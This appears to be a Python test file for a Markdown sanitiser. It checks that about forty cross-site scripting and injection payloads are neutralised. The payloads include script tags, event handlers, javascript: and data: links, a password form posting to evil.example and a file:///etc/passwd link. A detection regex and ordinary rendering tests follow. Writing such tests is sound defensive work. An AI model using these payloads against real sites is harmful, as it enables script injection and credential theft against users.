"""Markdown becomes HTML that can do no harm, whatever is typed."""

from __future__ import annotations

import re

import pytest

from vezne.content.markdown import LONGEST, pictures_in, plain, rendered

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><script>alert(1)</script>-->",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example" onclick="alert(1))',
    '[x](https://a.example "t" onmouseover="alert(1)")',
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/reader.png)",
    "![x](//evil.example/reader.png)",
    "![x](/resim/pic_a/?x=/yonetim/)",
    '![" onerror="alert(1)](/resim/pic_a/)',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](/%5Cevil.example)",
    "| <script>alert(1)</script> |\n|--|\n| <b onclick=alert(1)>x</b> |",
    "```html\n<script>alert(1)</script>\n```",
    "> > > <script>alert(1)</script>",
    "- a\n  - <details open ontoggle=alert(1)>",
]
HARMLESS = re.compile(r'(alt|title)="[^"]*"')
TAG = re.compile(r"<[^>]*>")
HARM = re.compile(
    r"<(script|style|svg|math|iframe|form|input|base|meta|object|embed)|\son\w+\s*=|style=|"
    r"(href|src)=\"(?!https?:|mailto:|tel:|/(?![/\\])|#)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_is_typed_runs_or_leads_out_of_the_page(attack: str) -> None:
    html = rendered(f"önce\n\n{attack}\n\nsonra")

    assert "evil.example" not in "".join(TAG.findall(html))
    for tag in TAG.findall(html):
        bare = HARMLESS.sub("", tag)  # words in quotes stay words
        assert not HARM.search(bare), html
    assert "javascript" not in "".join(TAG.findall(html)).lower()
    assert "<p>önce</p>" in html
    assert "sonra" in html


def test_what_people_write_keeps_its_shape() -> None:
    html = rendered(
        "# Başlık\n\n**kalın** ve *eğik*, [site](https://a.example), <https://b.example>\n\n"
        "1. bir\n2. iki\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n~~eski~~ `kod`"
    )

    for piece in (
        "<h2>Başlık</h2>", "<strong>kalın</strong>", "<em>eğik</em>", "<ol>", "<td>2</td>",
        "<s>eski</s>", "<code>kod</code>",
        '<a href="https://a.example" rel="noopener noreferrer nofollow">site</a>',
    ):  # fmt: skip
        assert piece in html


def test_headings_follow_the_pages_own_without_a_gap() -> None:
    assert re.findall(r"<h\d", rendered("### a\n\n###### b\n\n# c", 3)) == ["<h3", "<h4", "<h3"]
    assert re.findall(r"<h\d", rendered("## a\n\n### b\n\n## c")) == ["<h2", "<h3", "<h2"]


def test_a_picture_of_the_house_stays_and_others_become_their_words() -> None:
    text = "![Ekran](/resim/pic_Ab12/) ![Öteki](https://a.example/x.png)"

    html = rendered(text)

    assert '<img src="/resim/pic_Ab12/" alt="Ekran">' in html
    assert html.count("<img") == 1
    assert "Öteki" in html
    assert pictures_in(text) == {"pic_Ab12"}


def test_the_words_alone_have_no_marks() -> None:
    assert (
        plain("# A\n\n**b** [c](https://x.example)\nd ![e](/resim/pic_1/)\n\n- f") == "A b c d e f"
    )


def test_a_huge_text_is_read_in_reasonable_time_and_depth() -> None:
    assert rendered("> " * 5_000 + "x")
    assert rendered("[" * 5_000)
    assert rendered("*a " * (LONGEST // 3))
